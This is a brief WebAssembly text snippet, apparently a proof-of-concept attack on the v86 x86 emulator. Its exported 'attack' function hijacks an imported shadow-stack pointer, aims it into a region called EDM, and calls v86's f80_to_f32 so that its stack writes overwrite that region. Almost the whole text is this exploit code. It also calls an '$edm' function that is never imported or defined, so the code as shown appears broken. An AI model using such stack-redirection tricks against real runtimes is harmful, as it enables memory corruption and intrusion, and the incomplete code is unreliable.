;; v86's shadow stack moved into EDM: the next function of v86 that keeps something there writes over EDM.
(import "v86" "memory" (memory 1))
(import "v86" "wolfden.stack-pointer" (global $sp (mut i32)))
(import "v86" "f80_to_f32" (func $victim (param i64 i32) (result i32)))

(func $attack (export "attack")
  (local $old i32)
  (local.set $old (global.get $sp))
  (global.set $sp (i32.add (call $edm) (i32.const 0x800)))
  (drop (call $victim (i64.const 0x4000000000000000) (i32.const 0x3fff)))
  (global.set $sp (local.get $old)))
